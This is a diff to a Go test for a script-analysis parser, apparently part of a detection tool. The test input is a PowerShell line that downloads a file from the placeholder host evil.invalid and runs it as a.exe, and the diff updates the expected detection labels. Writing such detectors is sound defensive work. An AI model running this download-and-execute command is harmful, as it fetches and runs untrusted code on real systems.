@@ -246,7 +246,7 @@ func TestParseFile(t *testing.T) {
 		}
 	}
 	s := ParseFile("(New-Object Net.WebClient).DownloadFile('http://evil.invalid/a', 'a.exe')\n.\\a.exe", "a.ps1")
-	want := []string{"download: powershell Net.WebClient", "runs-file: a.exe", "host evil.invalid"}
+	want := []string{"download: WebClient.DownloadFile http://evil.invalid/a", "runs-file: a.exe", "download-run: file ./a.exe", "host evil.invalid"}
 	if diff := cmp.Diff(want, describe(s)); diff != "" {
 		t.Errorf("(-want +got)\n%s", diff)
 	}
